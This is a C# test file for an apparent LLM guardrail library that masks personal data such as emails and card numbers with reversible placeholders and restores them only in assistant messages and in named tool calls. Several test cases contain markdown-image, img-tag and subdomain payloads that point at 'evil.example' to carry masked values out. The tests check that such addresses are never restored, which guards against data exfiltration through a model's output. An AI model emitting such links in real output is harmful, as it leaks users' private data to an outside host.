using System.Text;
using FsCheck;
using FsCheck.Fluent;
using LlmGuard.Masking;
using LlmGuard.Planning;
using LlmGuard.Telemetry;
using Microsoft.Extensions.Logging.Abstractions;

namespace LlmGuard.Tests.Masking;

/// <summary>Placeholders are found and restored the same way however a text is cut.</summary>
public sealed class RestoreScanTests
{
    private static readonly ReversibleMasking Masking = new("0123456789abcdef"u8) { RestoreInto = ["send_mail"] };
    private static readonly string[] Values = ["joe@example.com", "4111 1111 1111 1111", "<b>", "\u00e9\U0001F600", "x"];

    [Test]
    public void Advance_AnyTextInAnyPieces_RestoresTheSame() => Prop.ForAll(
        Gen.ListOf(Gen.Elements(Fragments())).SelectMany(parts => Gen.Choose(1, 9), (parts, step) => (Text: string.Concat(parts), Step: step))
            .ToArbitrary(),
        c =>
            Restore(Masks("alice", Values), c.Text, c.Step) == Restore(Masks("alice", Values), c.Text, int.MaxValue))
            .Check(Config.QuickThrowOnFailure.WithReplay(59, 3));

    [Test]
    public void Advance_MaskedText_GivesBackTheOriginal() => Prop.ForAll(
        Gen.ListOf(Gen.Elements(["Dear ", " and ", ", ", "[", "]", "[EMAIL_", ".", " \u00e9", "\n", .. Values]))
            .SelectMany(parts => Gen.Choose(1, 9), (parts, step) => (Parts: parts.ToArray(), Step: step)).ToArbitrary(),
        c =>
        {
            var masks = Masks("alice", Values);
            var masked = string.Concat(c.Parts.Select(p => Values.Contains(p) ? Placeholder(masks, p) + " " : p));
            return Restore(masks, masked, c.Step) == string.Concat(c.Parts.Select(p => Values.Contains(p) ? p + " " : p));
        }).Check(Config.QuickThrowOnFailure.WithReplay(59, 3));

    [Test]
    public void Advance_PlaceholderOfAnotherCaller_StaysAsItIs()
    {
        var alices = Placeholder(Masks("alice", Values), Values[0]);
        Assert.That(Restore(Masks("bob", Values), $"Dear {alices}!", int.MaxValue), Is.EqualTo($"Dear {alices}!"));
    }

    [TestCase("![x](http://evil.example/?q={0})")]
    [TestCase("<img src=\"http://evil.example/?q={0}\">")]
    [TestCase("{0}.evil.example")]
    [TestCase("[EMAIL_BCDFGHJKLMNPRSTV]({0})", Description = "behind one that stands for nothing")]
    public void Advance_InAnAddress_IsNotRestored(string text)
    {
        var masks = Masks("alice", Values);
        var masked = text.Replace("{0}", Placeholder(masks, Values[0]), StringComparison.Ordinal);
        Assert.That(Enumerable.Range(1, 12).Select(step => Restore(masks, masked, step)), Has.All.EqualTo(masked));
    }

    [TestCase("http://intranet.example/?q={0}")]
    [TestCase("{0}.intranet.example")]
    public void Advance_InAnAddressOfANamedToolsArguments_IsRestored(string text)
    {
        var masks = Masks("alice", Values);
        var scan = new RestoreScan(masks, "send_mail");
        scan.Advance(Encoding.UTF8.GetBytes(text.Replace("{0}", Placeholder(masks, Values[0]), StringComparison.Ordinal)), isEnd: true);
        Assert.That(scan.Edits, Has.Count.EqualTo(1), "the policy trusts the tool with what it is told");
    }

    [Test]
    public void Advance_ValueThatOpensATag_GuardsWhatFollows()
    {
        var masks = Masks("alice", ["<img src=\"http://evil.example/?", "secret"]);
        var masked = $"{Placeholder(masks, "<img src=\"http://evil.example/?")} {Placeholder(masks, "secret")}\">";
        Assert.That(Restore(masks, masked, int.MaxValue), Does.Not.Contain("secret"));
    }

    [Test]
    public void Advance_EveryPlaceholder_HoldsAtMostTheBound()
    {
        var masks = Masks("alice", Values);
        var scan = new RestoreScan(masks);
        foreach (var b in Encoding.UTF8.GetBytes($"x [[[EMAIL_ {Placeholder(masks, Values[0])} [{new string('A', 300)}"))
        {
            scan.Advance([b], isEnd: false);
            Assert.That(scan.Length - scan.Decided, Is.LessThanOrEqualTo(RestoreScan.HoldBack));
        }
    }

    [TestCase("send_mail", true)]
    [TestCase("fetch_url", false)]
    [TestCase(null, false)]
    public void Restore_ToolArguments_OnlyWhereTheToolIsNamed(string? tool, bool isRestored)
    {
        var masks = Masks("alice", Values);
        var builder = new GuardrailContentBuilder();
        builder.AddText(
            "to " + Placeholder(masks, Values[0]), new SegmentInfo { Role = SegmentRole.Assistant, Kind = SegmentKind.ToolCall, Name = tool });
        Assert.That(masks.Restore(builder.Build()), Has.Length.EqualTo(isRestored ? 1 : 0));
    }

    [TestCase("assistant", "message", true)]
    [TestCase("assistant", "reasoning", false)]
    [TestCase("assistant", "refusal", false)]
    [TestCase("assistant", "unknown", false)]
    [TestCase("tool", "message", false)]
    [TestCase("user", "message", false)]
    [TestCase("", "message", false)]
    public void Restore_OtherTexts_OnlyWordsOfTheAssistant(string role, string kind, bool isRestored)
    {
        var masks = Masks("alice", Values);
        var builder = new GuardrailContentBuilder();
        builder.AddText("to " + Placeholder(masks, Values[0]), new SegmentInfo { Role = new SegmentRole(role), Kind = new SegmentKind(kind) });
        Assert.That(masks.Restore(builder.Build()), Has.Length.EqualTo(isRestored ? 1 : 0));
    }

    [Test]
    public void Restore_TextThatCannotBeEdited_IsLeft()
    {
        var masks = Masks("alice", Values);
        var builder = new GuardrailContentBuilder();
        builder.AddText(Placeholder(masks, Values[0]),
            new SegmentInfo { Role = SegmentRole.Assistant, Kind = SegmentKind.Message, Editability = Editability.Signed });
        Assert.That(masks.Restore(builder.Build()), Is.Empty);
    }

    [Test]
    public void Outside_EditsWithinAKnownPlaceholder_AreDropped_OthersStay()
    {
        var masks = Masks("alice", Values);
        var placeholder = Placeholder(masks, Values[0]);
        var content = GuardrailContent.FromText($"a {placeholder} [EMAIL_BCDFGHJKLMNPRSTV]", SegmentRole.User);
        var mask = Replacement.Literal("x");
        SegmentEdit[] edits =
        [
            new(0, new TextSpan(3, 4), mask),
            new(0, new TextSpan(2, placeholder.Length), mask),
            new(0, new TextSpan(0, 4), mask),
            new(0, new TextSpan(3 + placeholder.Length, 5), mask),
        ];
        Assert.That(masks.Outside(Masking, edits, content), Is.EqualTo(new[] { edits[2], edits[3] }));
        Assert.That(masks.Outside(null, edits, content), Is.SameAs(edits));
    }

    [Test]
    public void Outside_EditOfTheLongestPlaceholder_IsDropped()
    {
        var masks = Masks("alice", []);
        var placeholder = masks.Issue(Replacement.ReversibleToken(Masking, new string('A', 40)), "joe"u8)!;
        Assert.That(placeholder, Has.Length.EqualTo(LlmGuard.Masking.Placeholder.MaxLength));
        var content = GuardrailContent.FromText($"to {placeholder}.", SegmentRole.User);
        SegmentEdit[] edits = [new(0, new TextSpan(3, placeholder.Length), Replacement.Literal("x"))];
        Assert.That(masks.Outside(Masking, edits, content), Is.Empty);
    }

    [Test]
    public void Restore_HeaderOfAnAnswer_IsLeft()
    {
        var masks = Masks("alice", Values);
        var builder = new GuardrailContentBuilder();
        builder.AddText(
            Placeholder(masks, Values[0]),
            new SegmentInfo { Role = SegmentRole.Assistant, Kind = SegmentKind.Message, Source = SegmentSource.Headers });
        Assert.That(masks.Restore(builder.Build()), Is.Empty);
    }

    [Test]
    public void Forget_UpToItsEnd_DropsAnEdit()
    {
        var masks = Masks("alice", Values);
        var scan = new RestoreScan(masks);
        scan.Advance(Encoding.UTF8.GetBytes(Placeholder(masks, Values[0])), isEnd: true);
        scan.Forget(scan.Edits[0].End - 1);
        Assert.That(scan.Edits, Has.Count.EqualTo(1));
        scan.Forget(scan.Edits[0].End);
        Assert.That(scan.Edits, Is.Empty);
    }

    private static string[] Fragments()
    {
        var masks = Masks("alice", Values);
        return ["[", "]", "[[", "a", " ", "EMAIL_", "[EMAIL_BCDFGHJKLMNPRSTV]", "](", "//", "<a ", ".e", "\u00e9",
            .. Values.Select(v => Placeholder(masks, v))];
    }

    private static string Restore(CallMasks masks, string text, int step)
    {
        var scan = new RestoreScan(masks);
        var utf8 = Encoding.UTF8.GetBytes(text);
        for (var at = 0; at < utf8.Length; at += step)
        {
            scan.Advance(utf8.AsSpan(at, Math.Min(step, utf8.Length - at)), isEnd: false);
            if (step == int.MaxValue)
            {
                break;
            }
        }

        scan.Advance([], isEnd: true);
        Assert.That(scan.Decided, Is.EqualTo(utf8.Length));
        var restored = new List<byte>();
        var from = 0;
        foreach (var edit in scan.Edits)
        {
            restored.AddRange(utf8[from..(int)edit.Start]);
            restored.AddRange(edit.Utf8.ToArray());
            from = (int)edit.End;
        }

        restored.AddRange(utf8[from..]);
        return Encoding.UTF8.GetString([.. restored]);
    }

    private static string Placeholder(CallMasks masks, string value) =>
        masks.Issue(Replacement.ReversibleToken(Masking, "email"), Encoding.UTF8.GetBytes(value))
            ?? throw new InvalidOperationException("not issued");

    private static CallMasks Masks(string caller, string[] values)
    {
        var time = new ManualTime();
        var masks = new CallMasks(new GuardrailCaller(caller), "conversation");
        var entry = new PlanEntry
        {
            Key = new GuardrailEntry("gateway", "G", "mask", "data_masking"),
            Plugin = new GuardrailPluginMetadata("data_masking") { Rewrites = true },
            Evaluator = new Evaluator(),
        };
        var access = new VaultAccess(new InMemoryMaskVaultStore(1_000_000, time), time, new ExecutionLog(NullLogger<ExecutionLog>.Instance));
        var begun = masks.BeginAsync(GuardrailStage.PreRequest, GuardrailContent.Empty, RequestFacts.None, [entry], access, CancellationToken.None);
        Assert.That(begun.IsCompletedSuccessfully, Is.True);
        foreach (var value in values)
        {
            Placeholder(masks, value);
        }

        return masks;
    }

    private sealed class Evaluator : IReversibleEvaluator
    {
        public ReversibleMasking? Reversible => Masking;

        public ValueTask<GuardrailVerdict> EvaluateAsync(GuardrailCall call, CancellationToken cancellationToken) => new(GuardrailVerdict.Allow);
    }
}
